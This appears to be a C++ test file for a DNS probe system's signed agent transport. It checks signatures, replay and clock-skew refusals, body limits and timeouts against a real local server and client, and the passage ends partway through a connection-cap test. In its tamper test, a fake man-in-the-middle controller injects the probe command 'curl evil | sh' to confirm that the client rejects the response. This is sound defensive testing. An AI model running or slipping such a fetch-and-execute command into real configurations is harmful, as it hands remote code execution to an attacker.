// The agent transport (probes/agent_protocol.hpp, agent_server.hpp, agent_client.hpp): JSON
// round trips, signatures, key files, and a real AgentServer on 127.0.0.1:0 talking to a real
// AgentClient, raw sockets and a fake controller.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>

#include <atomic>
#include <boost/asio/executor_work_guard.hpp>
#include <boost/asio/io_context.hpp>
#include <boost/asio/ip/tcp.hpp>
#include <boost/asio/post.hpp>
#include <boost/beast/core/flat_buffer.hpp>
#include <boost/beast/http.hpp>
#include <chrono>
#include <climits>
#include <future>
#include <map>
#include <mutex>
#include <nlohmann/json.hpp>
#include <thread>

#include "probes/agent_client.hpp"
#include "probes/agent_protocol.hpp"
#include "probes/agent_server.hpp"
#include "tests/support/free_port.hpp"
#include "tests/support/temp_dir.hpp"
#include "tests/support/unique_fd.hpp"
#include "tests/support/wait_until.hpp"
#include "zones/schema.hpp"
#include "zones/tsig.hpp"

namespace probes {
namespace {

namespace asio = boost::asio;
namespace http = boost::beast::http;
using std::chrono::milliseconds;
using std::chrono::seconds;

AgentKey testKey(uint8_t seed = 1) {
    AgentKey k(32);
    for (size_t i = 0; i < k.size(); ++i) k[i] = uint8_t(seed * 31 + i * 7);
    return k;
}

// A probe with every field away from its default, so a field the codec forgets shows.
zones::ProbeDef fullProbe() {
    zones::ProbeDef p;
    p.id = 42;
    p.name = "web-https";
    p.type = "https";
    p.port = 8443;
    p.intervalMs = 750;
    p.timeoutMs = 300;
    p.rise = 3;
    p.fall = 4;
    p.target = "alt.example.test:9443";
    p.method = "HEAD";
    p.path = "/healthz?deep=1";
    p.hostHeader = "www.example.test";
    p.userAgent = "probe/9";
    p.headers = "Authorization: Bearer t0k\"en\nX-Other: 2";
    p.expect = "200,204,301-302";
    p.body = "ok \u00e9\\";
    p.sni = "sni.example.test";
    p.verify = false;
    p.query = "svc.example.test.";
    p.qtype = 28;
    p.command = "/usr/bin/true --flag 'x'";
    p.updatedAt = 1764650000123;
    return p;
}

void expectSameProbe(const zones::ProbeDef& a, const zones::ProbeDef& b) {
    EXPECT_EQ(a.id, b.id);
    EXPECT_EQ(a.name, b.name);
    EXPECT_EQ(a.type, b.type);
    EXPECT_EQ(a.port, b.port);
    EXPECT_EQ(a.intervalMs, b.intervalMs);
    EXPECT_EQ(a.timeoutMs, b.timeoutMs);
    EXPECT_EQ(a.rise, b.rise);
    EXPECT_EQ(a.fall, b.fall);
    EXPECT_EQ(a.target, b.target);
    EXPECT_EQ(a.method, b.method);
    EXPECT_EQ(a.path, b.path);
    EXPECT_EQ(a.hostHeader, b.hostHeader);
    EXPECT_EQ(a.userAgent, b.userAgent);
    EXPECT_EQ(a.headers, b.headers);
    EXPECT_EQ(a.expect, b.expect);
    EXPECT_EQ(a.body, b.body);
    EXPECT_EQ(a.sni, b.sni);
    EXPECT_EQ(a.verify, b.verify);
    EXPECT_EQ(a.query, b.query);
    EXPECT_EQ(a.qtype, b.qtype);
    EXPECT_EQ(a.command, b.command);
    EXPECT_EQ(a.updatedAt, b.updatedAt);
}

AgentConfig sampleConfig() {
    AgentConfig c;
    c.version = "v17-abc";
    c.reportMs = 250;
    c.checks.push_back({7, 42, "192.0.2.7", fullProbe()});
    zones::ProbeDef tcp;
    tcp.id = 3;
    tcp.name = "tcp";
    tcp.type = "tcp";  // no port: the member's own (std::nullopt must survive)
    c.checks.push_back({8, 3, "2001:db8::8", tcp});
    return c;
}

AgentReport sampleReport() {
    AgentReport r;
    r.configVersion = "v17-abc";
    r.dropped = 12345678901ull;
    r.version = "0.9.0";
    r.host = "agent-sin-1";
    r.results.push_back({7, 42, 1764650000999, true, 1234, "HTTP 200"});
    r.results.push_back({8, 3, 1764650001000, false, 0, "connect: refused \"x\"\nline2"});
    return r;
}

TEST(AgentProtocol, ConfigRoundTripsEveryProbeField) {
    AgentConfig in = sampleConfig();
    AgentConfig out = decodeConfig(encodeConfig(in));
    EXPECT_EQ(out.version, in.version);
    EXPECT_EQ(out.reportMs, in.reportMs);
    ASSERT_EQ(out.checks.size(), 2u);
    for (size_t i = 0; i < 2; ++i) {
        EXPECT_EQ(out.checks[i].memberId, in.checks[i].memberId);
        EXPECT_EQ(out.checks[i].probeId, in.checks[i].probeId);
        EXPECT_EQ(out.checks[i].member, in.checks[i].member);
        expectSameProbe(out.checks[i].probe, in.checks[i].probe);
    }
    EXPECT_FALSE(out.checks[1].probe.port.has_value());
    EXPECT_EQ(decodeConfig(encodeConfig(AgentConfig{})).checks.size(), 0u);
}

TEST(AgentProtocol, ReportAndReplyRoundTrip) {
    AgentReport in = sampleReport();
    AgentReport out = decodeReport(encodeReport(in));
    EXPECT_EQ(out.configVersion, in.configVersion);
    EXPECT_EQ(out.dropped, in.dropped);
    EXPECT_EQ(out.version, in.version);
    EXPECT_EQ(out.host, in.host);
    ASSERT_EQ(out.results.size(), 2u);
    for (size_t i = 0; i < 2; ++i) {
        EXPECT_EQ(out.results[i].memberId, in.results[i].memberId);
        EXPECT_EQ(out.results[i].probeId, in.results[i].probeId);
        EXPECT_EQ(out.results[i].at, in.results[i].at);
        EXPECT_EQ(out.results[i].ok, in.results[i].ok);
        EXPECT_EQ(out.results[i].latencyUs, in.results[i].latencyUs);
        EXPECT_EQ(out.results[i].message, in.results[i].message);
    }
    EXPECT_EQ(decodeReply(encodeReply({"v18"})).configVersion, "v18");
}

TEST(AgentProtocol, InvalidUtf8InAMessageIsReplacedNotThrown) {
    AgentReport r;
    r.results.push_back({1, 1, 1, false, 0, std::string("bad \xff\xfe bytes")});
    std::string json;
    ASSERT_NO_THROW(json = encodeReport(r));
    EXPECT_NE(decodeReport(json).results.at(0).message.find("bad "), std::string::npos);
}

void expectThrowsMentioning(const std::function<void()>& f, const std::string& words) {
    try {
        f();
        ADD_FAILURE() << "no exception; expected one mentioning " << words;
    } catch (const std::runtime_error& e) {
        EXPECT_NE(std::string(e.what()).find(words), std::string::npos) << e.what();
    }
}

TEST(AgentProtocol, MalformedJsonThrowsNamingTheProblem) {
    expectThrowsMentioning([] { decodeConfig("{not json"); }, "malformed agent config");
    expectThrowsMentioning([] { decodeReport("[1,2]"); }, "not a JSON object");
    expectThrowsMentioning([] { decodeReport(""); }, "malformed agent report");
    expectThrowsMentioning([] { decodeReply("{}"); }, "'config_version'");
    // A missing or mistyped field is named.
    std::string report = encodeReport(sampleReport());
    auto noResults = nlohmann::json::parse(report);
    noResults.erase("results");
    expectThrowsMentioning([&] { decodeReport(noResults.dump()); }, "'results'");
    std::string badOk = report;
    badOk.replace(badOk.find("\"ok\":true"), 9, "\"ok\":\"yes\"");
    expectThrowsMentioning([&] { decodeReport(badOk); }, "'ok'");
    std::string config = encodeConfig(sampleConfig());
    std::string noSni = config;
    noSni.replace(noSni.find("\"sni\""), 5, "\"snx\"");
    expectThrowsMentioning([&] { decodeConfig(noSni); }, "'sni'");
}

TEST(AgentProtocol, SignaturesCoverEveryPart) {
    AgentKey k = testKey();
    std::string base = requestSignature(k, "POST", "/v1/report", "sin", 1000, "{}");
    EXPECT_EQ(base, requestSignature(k, "POST", "/v1/report", "sin", 1000, "{}"));
    EXPECT_EQ(base.size(), 44u);  // base64 of 32 bytes
    EXPECT_NE(base, requestSignature(testKey(2), "POST", "/v1/report", "sin", 1000, "{}"));
    EXPECT_NE(base, requestSignature(k, "GET", "/v1/report", "sin", 1000, "{}"));
    EXPECT_NE(base, requestSignature(k, "POST", "/v1/config", "sin", 1000, "{}"));
    EXPECT_NE(base, requestSignature(k, "POST", "/v1/report", "fra", 1000, "{}"));
    EXPECT_NE(base, requestSignature(k, "POST", "/v1/report", "sin", 1001, "{}"));
    EXPECT_NE(base, requestSignature(k, "POST", "/v1/report", "sin", 1000, "{ }"));
    // A line break before the body would let two requests share a text: refused.
    EXPECT_THROW(requestSignature(k, "POST", "/a", "b\nc", 1, ""), std::invalid_argument);
    EXPECT_THROW(requestSignature(k, "POST", "/a\nb", "c", 1, ""), std::invalid_argument);
    EXPECT_THROW(requestSignature(k, "PO\nST", "/a", "c", 1, ""), std::invalid_argument);
    EXPECT_NO_THROW(requestSignature(k, "POST", "/a", "c", 1, "body\nwith\nlines"));
    std::string res = responseSignature(k, base, 200, 1000, "{}");
    EXPECT_NE(res, base);
    EXPECT_NE(res, responseSignature(k, base, 200, 1001, "{}"));
    EXPECT_NE(res, responseSignature(k, base, 201, 1000, "{}"));
    EXPECT_NE(res, responseSignature(k, "other", 200, 1000, "{}"));
    EXPECT_NE(res, responseSignature(k, base, 200, 1000, "{\"x\":1}"));
    EXPECT_TRUE(sameSignature(base, requestSignature(k, "POST", "/v1/report", "sin", 1000, "{}")));
    EXPECT_FALSE(sameSignature(base, res));
    EXPECT_FALSE(sameSignature(base, base.substr(0, 43)));
    EXPECT_FALSE(sameSignature(base, ""));
}

TEST(AgentProtocol, ReadKeyFile) {
    testsupport::TempDir dir;
    AgentKey k = testKey();
    std::string good = dir.writeFile("good.key", "  " + zones::base64Encode(k) + "\n");
    ::chmod(good.c_str(), 0600);
    EXPECT_EQ(readKeyFile(good), k);
    ::chmod(good.c_str(), 0640);
    EXPECT_EQ(readKeyFile(good), k);

    std::string open = dir.writeFile("open.key", zones::base64Encode(k));
    ::chmod(open.c_str(), 0644);
    expectThrowsMentioning([&] { readKeyFile(open); }, open + ": mode 0644");
    expectThrowsMentioning([&] { readKeyFile(open); }, "chmod 600");

    std::string missing = dir.file("missing.key");
    expectThrowsMentioning([&] { readKeyFile(missing); }, missing + ": cannot open");

    std::string junk = dir.writeFile("junk.key", "this is not base64!\n");
    ::chmod(junk.c_str(), 0600);
    expectThrowsMentioning([&] { readKeyFile(junk); }, junk + ": not a base64 key");

    std::string shortKey = dir.writeFile("short.key", zones::base64Encode(AgentKey(8, 1)));
    ::chmod(shortKey.c_str(), 0600);
    expectThrowsMentioning([&] { readKeyFile(shortKey); }, shortKey + ": key too short (8 bytes");

    std::string empty = dir.writeFile("empty.key", "");
    ::chmod(empty.c_str(), 0600);
    expectThrowsMentioning([&] { readKeyFile(empty); }, empty + ": not a base64 key");

    expectThrowsMentioning([&] { readKeyFile(dir.path().string()); }, "not a file");
}

// An io_context on its own thread; everything that touches the server or a client runs on it.
struct Loop {
    asio::io_context io;
    asio::executor_work_guard<asio::io_context::executor_type> guard = asio::make_work_guard(io);
    std::thread thread{[this] { io.run(); }};
    ~Loop() {
        guard.reset();
        io.stop();
        thread.join();
    }
    template <typename F>
    auto call(F f) {
        using R = decltype(f());
        std::promise<R> p;
        auto fut = p.get_future();
        asio::post(io, [&] {
            try {
                if constexpr (std::is_void_v<R>) {
                    f();
                    p.set_value();
                } else {
                    p.set_value(f());
                }
            } catch (...) {
                p.set_exception(std::current_exception());
            }
        });
        return fut.get();
    }
};

struct Refusal {
    std::string vantage, kind, message;
};

// One HTTP exchange over a fresh blocking socket: sends `bytes`, returns everything the server
// sent until it closed (or "" after 5 s of silence).
std::string rawExchange(uint16_t port, const std::string& bytes) {
    testsupport::UniqueFd fd(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    timeval tv{5, 0};
    ::setsockopt(fd.get(), SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    if (::connect(fd.get(), reinterpret_cast<sockaddr*>(&a), sizeof a) != 0) return "";
    ::send(fd.get(), bytes.data(), bytes.size(), MSG_NOSIGNAL);
    std::string out;
    char buf[8192];
    for (ssize_t n; (n = ::recv(fd.get(), buf, sizeof buf, 0)) > 0;) out.append(buf, size_t(n));
    return out;
}

int statusOf(const std::string& response) {
    if (response.rfind("HTTP/1.1 ", 0) != 0) return 0;
    return std::atoi(response.c_str() + 9);
}

std::string bodyOf(const std::string& response) {
    auto at = response.find("\r\n\r\n");
    return at == std::string::npos ? "" : response.substr(at + 4);
}

// A signed request as raw bytes, signed as AgentClient signs it (but with Connection: close).
std::string rawRequest(const AgentKey& key, const std::string& method, const std::string& target,
                       const std::string& vantage, int64_t time, const std::string& body,
                       const std::string& signedBody) {
    std::string sig = requestSignature(key, method, target, vantage, time, signedBody);
    return method + " " + target + " HTTP/1.1\r\nHost: test\r\n" + kVantageHeader + ": " + vantage +
           "\r\n" + kTimeHeader + ": " + std::to_string(time) + "\r\n" + kSignatureHeader + ": " +
           sig + "\r\nContent-Length: " + std::to_string(body.size()) +
           "\r\nConnection: close\r\n\r\n" + body;
}

class AgentTransport : public ::testing::Test {
  protected:
    void SetUp() override { options.listen = "127.0.0.1:0"; }
    void TearDown() override {
        loop.call([&] {
            for (auto& c : clients) c.reset();
            server.reset();
        });
    }

    void startServer() {
        loop.call([&] {
            server = std::make_unique<AgentServer>(
                loop.io, options,
                [this](const std::string& v) -> const AgentKey* {
                    auto it = keys.find(v);
                    return it == keys.end() ? nullptr : &it->second;
                },
                [this](const AgentRequest& r) {
                    std::lock_guard lock(mu);
                    requests.push_back(r);
                    return config;
                },
                [this](const AgentRequest& r, AgentReport&& report) {
                    std::lock_guard lock(mu);
                    requests.push_back(r);
                    reports.push_back(std::move(report));
                    if (reportThrows) throw std::runtime_error("member 99 is not in the config");
                    return AgentReply{config.version};
                },
                [this](const std::string& v, const std::string& kind, const std::string& m) {
                    std::lock_guard lock(mu);
                    refusals.push_back({v, kind, m});
                },
                [this](Level level, const std::string& line) {
                    std::lock_guard lock(mu);
                    logs.push_back({level, line});
                });
            server->start();
        });
        port = loop.call([&] { return server->port(); });
        ASSERT_NE(port, 0);
    }

    AgentClient& client(const std::string& vantage, AgentKey key, int timeoutMs = 5000,
                        uint16_t toPort = 0) {
        AgentClientOptions o;
        o.url = "http://127.0.0.1:" + std::to_string(toPort ? toPort : port);
        o.vantage = vantage;
        o.key = std::move(key);
        o.timeoutMs = timeoutMs;
        return *loop.call([&] {
            clients.push_back(std::make_unique<AgentClient>(loop.io, o));
            return clients.back().get();
        });
    }

    AgentResponse send(AgentClient& c, const std::string& method, const std::string& target,
                       std::string body = {}) {
        std::promise<AgentResponse> p;
        auto f = p.get_future();
        std::atomic<int> calls{0};
        asio::post(loop.io, [&] {
            c.request(method, target, std::move(body), [&](AgentResponse r) {
                if (++calls == 1) p.set_value(std::move(r));
            });
        });
        if (f.wait_for(seconds(30)) != std::future_status::ready) {
            ADD_FAILURE() << "done was never called";
            return {};
        }
        AgentResponse r = f.get();
        // `done` runs on the loop: one more turn of it shows it was not called twice.
        loop.call([] {});
        EXPECT_EQ(calls.load(), 1);
        return r;
    }

    std::vector<Refusal> refusalsOf(const std::string& kind) {
        std::lock_guard lock(mu);
        std::vector<Refusal> out;
        for (const auto& r : refusals)
            if (r.kind == kind) out.push_back(r);
        return out;
    }
    size_t refusalCount() {
        std::lock_guard lock(mu);
        return refusals.size();
    }
    std::vector<std::string> warnLogs() {
        std::lock_guard lock(mu);
        std::vector<std::string> out;
        for (const auto& [level, line] : logs)
            if (level == Level::Warn) out.push_back(line);
        return out;
    }

    Loop loop;
    AgentServerOptions options;
    std::map<std::string, AgentKey> keys{{"fra", testKey(1)}, {"sin", testKey(2)}};
    AgentConfig config = sampleConfig();
    std::atomic<bool> reportThrows{false};
    std::unique_ptr<AgentServer> server;
    std::vector<std::unique_ptr<AgentClient>> clients;
    uint16_t port = 0;

    std::mutex mu;
    std::vector<AgentRequest> requests;
    std::vector<AgentReport> reports;
    std::vector<Refusal> refusals;
    std::vector<std::pair<Level, std::string>> logs;
};

TEST_F(AgentTransport, ConfigAndReportRoundTripWithVerifiedSignatures) {
    startServer();
    AgentClient& c = client("fra", testKey(1));
    int64_t before = zones::nowMs();
    AgentResponse r = send(c, "GET", kAgentConfigPath);
    ASSERT_EQ(r.status, 200) << r.error << r.body;
    EXPECT_EQ(r.error, "");
    EXPECT_GE(r.controllerTime, before);
    EXPECT_GT(r.bytesSent, 0u);
    EXPECT_GT(r.bytesReceived, r.body.size());
    AgentConfig got = decodeConfig(r.body);
    ASSERT_EQ(got.checks.size(), 2u);
    EXPECT_EQ(got.version, config.version);
    expectSameProbe(got.checks[0].probe, config.checks[0].probe);

    AgentResponse rr = send(c, "POST", kAgentReportPath, encodeReport(sampleReport()));
    ASSERT_EQ(rr.status, 200) << rr.error << rr.body;
    EXPECT_EQ(decodeReply(rr.body).configVersion, config.version);

    std::lock_guard lock(mu);
    ASSERT_EQ(requests.size(), 2u);
    EXPECT_EQ(requests[0].vantage, "fra");
    EXPECT_GE(requests[0].agentTime, before);
    EXPECT_GT(requests[1].agentTime, requests[0].agentTime);
    EXPECT_GE(requests[0].receivedAt, before);
    EXPECT_EQ(requests[0].peer.rfind("127.0.0.1:", 0), 0u) << requests[0].peer;
    EXPECT_GT(requests[1].bytes, encodeReport(sampleReport()).size());
    // Kept alive: both requests came over one connection (the same client port).
    EXPECT_EQ(requests[0].peer, requests[1].peer);
    ASSERT_EQ(reports.size(), 1u);
    EXPECT_EQ(reports[0].host, "agent-sin-1");
    ASSERT_EQ(reports[0].results.size(), 2u);
    EXPECT_EQ(reports[0].results[1].message, sampleReport().results[1].message);
    EXPECT_TRUE(refusals.empty());
}

TEST_F(AgentTransport, ManyRequestsInOneMillisecondGetIncreasingTimes) {
    startServer();
    AgentClient& c = client("fra", testKey(1));
    for (int i = 0; i < 20; ++i) ASSERT_EQ(send(c, "GET", kAgentConfigPath).status, 200);
    std::lock_guard lock(mu);
    ASSERT_EQ(requests.size(), 20u);
    for (size_t i = 1; i < requests.size(); ++i)
        EXPECT_GT(requests[i].agentTime, requests[i - 1].agentTime);
    EXPECT_TRUE(refusals.empty());
}

TEST_F(AgentTransport, BodyChangedAfterSigningIsRefused401) {
    startServer();
    std::string signedBody = encodeReport(sampleReport());
    AgentReport forged = sampleReport();
    forged.results[1].ok = true;
    std::string raw = rawRequest(testKey(1), "POST", kAgentReportPath, "fra", zones::nowMs(),
                                 encodeReport(forged), signedBody);
    std::string res = rawExchange(port, raw);
    EXPECT_EQ(statusOf(res), 401) << res;
    EXPECT_NE(bodyOf(res).find("bad signature from vantage fra"), std::string::npos) << res;
    EXPECT_EQ(res.find(kSignatureHeader), std::string::npos) << "a refusal is not signed";
    auto bad = refusalsOf("bad-signature");
    ASSERT_EQ(bad.size(), 1u);
    EXPECT_EQ(bad[0].vantage, "fra");
    std::lock_guard lock(mu);
    EXPECT_TRUE(reports.empty()) << "a forged report reached the handler";
}

TEST_F(AgentTransport, WrongKeyIsRefused401) {
    startServer();
    AgentClient& c = client("fra", testKey(2));  // sin's key, claiming to be fra
    AgentResponse r = send(c, "GET", kAgentConfigPath);
    EXPECT_EQ(r.status, 401);
    EXPECT_NE(r.body.find("bad signature"), std::string::npos) << r.body;
    EXPECT_EQ(refusalsOf("bad-signature").size(), 1u);
}

TEST_F(AgentTransport, UnknownVantageIsRefused401) {
    startServer();
    AgentClient& c = client("nyc", testKey(3));
    AgentResponse r = send(c, "GET", kAgentConfigPath);
    EXPECT_EQ(r.status, 401);
    EXPECT_EQ(r.error, "");
    EXPECT_NE(r.body.find("unknown vantage 'nyc'"), std::string::npos) << r.body;
    auto unknown = refusalsOf("unknown-vantage");
    ASSERT_EQ(unknown.size(), 1u);
    EXPECT_EQ(unknown[0].vantage, "nyc");
    // No vantage header at all.
    std::string res =
        rawExchange(port, "GET /v1/config HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    EXPECT_EQ(statusOf(res), 401) << res;
    EXPECT_EQ(refusalsOf("unknown-vantage").size(), 2u);
    std::lock_guard lock(mu);
    EXPECT_TRUE(requests.empty());
}

TEST_F(AgentTransport, ReplayedRequestIsRefused409) {
    startServer();
    std::string body = encodeReport(sampleReport());
    std::string raw =
        rawRequest(testKey(2), "POST", kAgentReportPath, "sin", zones::nowMs(), body, body);
    std::string first = rawExchange(port, raw);
    ASSERT_EQ(statusOf(first), 200) << first;
    EXPECT_NE(first.find(kSignatureHeader), std::string::npos);
    std::string second = rawExchange(port, raw);
    EXPECT_EQ(statusOf(second), 409) << second;
    EXPECT_NE(bodyOf(second).find("replay"), std::string::npos) << second;
    auto replays = refusalsOf("replay");
    ASSERT_EQ(replays.size(), 1u);
    EXPECT_EQ(replays[0].vantage, "sin");
    std::lock_guard lock(mu);
    EXPECT_EQ(reports.size(), 1u) << "the replayed report reached the handler";
}

TEST_F(AgentTransport, LastTimeCarriedOverARestartKeepsReplaysOut) {
    startServer();
    int64_t t = zones::nowMs();
    loop.call([&] { server->setLastTime("fra", t); });
    std::string raw = rawRequest(testKey(1), "GET", kAgentConfigPath, "fra", t, "", "");
    EXPECT_EQ(statusOf(rawExchange(port, raw)), 409);
    raw = rawRequest(testKey(1), "GET", kAgentConfigPath, "fra", t + 1, "", "");
    EXPECT_EQ(statusOf(rawExchange(port, raw)), 200);
}

// The number of seconds a skew message names, e.g. "... is 120.0 s ahead of ...".
double namedSkew(const std::string& message) {
    auto at = message.find(" is ");
    return at == std::string::npos ? -1 : std::atof(message.c_str() + at + 4);
}

TEST_F(AgentTransport, SkewedClockIsRefused403NamingTheSkew) {
    startServer();
    std::string raw =
        rawRequest(testKey(2), "GET", kAgentConfigPath, "sin", zones::nowMs() + 120000, "", "");
    std::string res = rawExchange(port, raw);
    EXPECT_EQ(statusOf(res), 403) << res;
    std::string body = bodyOf(res);
    EXPECT_NE(body.find("clock skew: vantage sin is "), std::string::npos) << body;
    EXPECT_NE(body.find(" s ahead of the controller (limit ±30 s)"), std::string::npos) << body;
    EXPECT_NEAR(namedSkew(body), 120.0, 5.0) << body;
    auto skew = refusalsOf("skew");
    ASSERT_EQ(skew.size(), 1u);
    EXPECT_EQ(skew[0].vantage, "sin");
    EXPECT_EQ(skew[0].message + "\n", body);

    raw = rawRequest(testKey(2), "GET", kAgentConfigPath, "sin", zones::nowMs() - 95300, "", "");
    body = bodyOf(rawExchange(port, raw));
    EXPECT_NE(body.find(" s behind the controller"), std::string::npos) << body;
    EXPECT_NEAR(namedSkew(body), 95.3, 5.0) << body;
    // A time at the edge of int64 (only a key holder can sign it) is skew, not an overflow.
    raw = rawRequest(testKey(2), "GET", kAgentConfigPath, "sin", INT64_MIN, "", "");
    body = bodyOf(rawExchange(port, raw));
    EXPECT_NE(body.find(" s behind the controller"), std::string::npos) << body;
    EXPECT_EQ(refusalsOf("skew").size(), 3u);
    std::lock_guard lock(mu);
    EXPECT_TRUE(requests.empty());
}

TEST_F(AgentTransport, SkewAsSeenThroughTheClient) {
    // The controller's clock is 120 s behind: the agent is 120 s ahead of it.
    options.clock = [] { return zones::nowMs() - 120000; };
    options.maxSkewMs = 10000;
    startServer();
    AgentClient& c = client("fra", testKey(1));
    AgentResponse r = send(c, "GET", kAgentConfigPath);
    EXPECT_EQ(r.status, 403);
    EXPECT_NE(r.body.find("ahead of the controller (limit ±10 s)"), std::string::npos) << r.body;
    EXPECT_NEAR(namedSkew(r.body), 120.0, 5.0) << r.body;
}

TEST_F(AgentTransport, TamperedResponseIsAnErrorNeverABody) {
    // A fake controller: answers 200 with a signature made with the right key over another
    // body (what a man in the middle changing the answer would produce), then one with none.
    asio::io_context fakeIo;
    asio::ip::tcp::acceptor acceptor(fakeIo, {asio::ip::make_address("127.0.0.1"), 0});
    uint16_t fakePort = acceptor.local_endpoint().port();
    AgentKey key = testKey(1);
    std::thread fake([&] {
        for (int i = 0; i < 2; ++i) {
            asio::ip::tcp::socket s = acceptor.accept();
            boost::beast::flat_buffer buf;
            http::request<http::string_body> req;
            http::read(s, buf, req);
            std::string reqSig(req[kSignatureHeader]);
            http::response<http::string_body> res{http::status::ok, 11};
            int64_t t = zones::nowMs();
            res.set(kTimeHeader, std::to_string(t));
            std::string genuine = encodeConfig(sampleConfig());
            if (i == 0) res.set(kSignatureHeader, responseSignature(key, reqSig, 200, t, genuine));
            AgentConfig evil = sampleConfig();
            evil.checks[0].probe.command = "curl evil | sh";
            res.body() = encodeConfig(evil);
            res.keep_alive(false);
            res.prepare_payload();
            http::write(s, res);
        }
    });
    AgentClient& c = client("fra", key, 5000, fakePort);
    AgentResponse r = send(c, "GET", kAgentConfigPath);
    EXPECT_EQ(r.status, 0);
    EXPECT_EQ(r.body, "");
    EXPECT_NE(r.error.find("does not verify"), std::string::npos) << r.error;
    r = send(c, "GET", kAgentConfigPath);
    EXPECT_EQ(r.status, 0);
    EXPECT_EQ(r.body, "");
    EXPECT_NE(r.error.find("does not verify"), std::string::npos) << r.error;
    fake.join();
}

TEST_F(AgentTransport, OversizedBodyIsRefused413) {
    options.maxBodyBytes = 1024;
    startServer();
    AgentClient& c = client("fra", testKey(1));
    AgentResponse r = send(c, "POST", kAgentReportPath, std::string(4096, 'x'));
    EXPECT_EQ(r.status, 413) << r.error;
    EXPECT_NE(r.body.find("over the limit of 1024"), std::string::npos) << r.body;
    auto big = refusalsOf("too-large");
    ASSERT_EQ(big.size(), 1u);
    EXPECT_EQ(big[0].vantage, "fra");

    // Chunked, so the size is only known while reading.
    std::string chunk(800, 'y');
    std::string raw =
        "POST /v1/report HTTP/1.1\r\nHost: x\r\nX-Dnsd-Vantage: fra\r\n"
        "Transfer-Encoding: chunked\r\n\r\n320\r\n" +
        chunk + "\r\n320\r\n" + chunk + "\r\n0\r\n\r\n";
    EXPECT_EQ(statusOf(rawExchange(port, raw)), 413);
    EXPECT_EQ(refusalsOf("too-large").size(), 2u);

    // A body within the limit still works on a fresh connection of the same client.
    EXPECT_EQ(send(c, "POST", kAgentReportPath, encodeReport(sampleReport())).status, 200);
}

TEST_F(AgentTransport, MalformedReportIsRefused400) {
    startServer();
    AgentClient& c = client("fra", testKey(1));
    AgentResponse r = send(c, "POST", kAgentReportPath, "{\"config_version\": 1}");
    EXPECT_EQ(r.status, 400);
    EXPECT_NE(r.body.find("malformed agent report"), std::string::npos) << r.body;
    reportThrows = true;
    r = send(c, "POST", kAgentReportPath, encodeReport(sampleReport()));
    EXPECT_EQ(r.status, 400);
    EXPECT_NE(r.body.find("member 99 is not in the config"), std::string::npos) << r.body;
    r = send(c, "GET", "/v1/nothing");
    EXPECT_EQ(r.status, 404);
    EXPECT_EQ(refusalsOf("malformed").size(), 3u);
    std::string res = rawExchange(port, "NOT-HTTP\r\n\r\n");
    EXPECT_EQ(statusOf(res), 400) << res;
    EXPECT_EQ(refusalsOf("malformed").size(), 4u);
}

TEST_F(AgentTransport, RefusalsAreLoggedOnceAMinutePerVantageAndKind) {
    std::atomic<int64_t> offset{0};
    options.clock = [&] { return zones::nowMs() + offset.load(); };
    startServer();
    AgentClient& fra = client("fra", testKey(9));
    AgentClient& sin = client("sin", testKey(9));
    for (int i = 0; i < 3; ++i) EXPECT_EQ(send(fra, "GET", kAgentConfigPath).status, 401);
    EXPECT_EQ(send(sin, "GET", kAgentConfigPath).status, 401);
    EXPECT_EQ(refusalsOf("bad-signature").size(), 4u) << "every refusal reaches the handler";
    auto lines = warnLogs();
    ASSERT_EQ(lines.size(), 2u) << "one line for fra, one for sin";
    EXPECT_NE(lines[0].find("vantage fra"), std::string::npos) << lines[0];
    EXPECT_NE(lines[1].find("vantage sin"), std::string::npos) << lines[1];
    offset = 61000;
    EXPECT_EQ(send(fra, "GET", kAgentConfigPath).status, 401);
    lines = warnLogs();
    ASSERT_EQ(lines.size(), 3u);
    EXPECT_NE(lines[2].find("(2 more like it since the last such line)"), std::string::npos)
        << lines[2];
}

TEST_F(AgentTransport, ClientTimesOutOnASilentController) {
    auto busy = testsupport::busyTcpPort();  // listens, never accepts, never answers
    AgentClient& c = client("fra", testKey(1), 300, busy.port);
    AgentResponse r = send(c, "GET", kAgentConfigPath);
    EXPECT_EQ(r.status, 0);
    EXPECT_NE(r.error.find("timeout after 300 ms"), std::string::npos) << r.error;
}

TEST_F(AgentTransport, ClientReconnectsAfterTheControllerRestarts) {
    startServer();
    AgentClient& c = client("fra", testKey(1));
    ASSERT_EQ(send(c, "GET", kAgentConfigPath).status, 200);
    // Restart on the same port: the client's kept-alive connection is gone.
    options.listen = "127.0.0.1:" + std::to_string(port);
    loop.call([&] { server.reset(); });
    startServer();
    AgentResponse r = send(c, "GET", kAgentConfigPath);
    EXPECT_EQ(r.status, 200) << r.error;
    // With nothing listening, the error says so; and it comes back afterwards.
    loop.call([&] { server.reset(); });
    r = send(c, "GET", kAgentConfigPath);
    EXPECT_EQ(r.status, 0);
    EXPECT_NE(r.error.find("connect to http://127.0.0.1:"), std::string::npos) << r.error;
    startServer();
    EXPECT_EQ(send(c, "GET", kAgentConfigPath).status, 200);
}

testsupport::UniqueFd connectTo(uint16_t port) {
    testsupport::UniqueFd fd(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    if (::connect(fd.get(), reinterpret_cast<sockaddr*>(&a), sizeof a) != 0) fd.reset();
    timeval tv{5, 0};
    ::setsockopt(fd.get(), SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    return fd;
}

TEST_F(AgentTransport, IdleConnectionIsClosed) {
    options.idleTimeoutMs = 200;
    startServer();
    auto idle = connectTo(port);
    ASSERT_TRUE(idle.valid());
    char b;
    EXPECT_EQ(::recv(idle.get(), &b, 1, 0), 0) << "the idle connection was not closed";
}

TEST_F(AgentTransport, ConnectionCapHolds) {
    options.maxConnections = 1;
    startServer();
    // A connection that sends nothing takes the only slot (the kernel queues connections in
    // order, so the server accepts it before the client's).
    auto idle = connectTo(port);
    ASSERT_TRUE(idle.valid());
    AgentClient& c = client("fra", testKey(1));
    AgentResponse r = send(c, "GET", kAgentConfigPath);
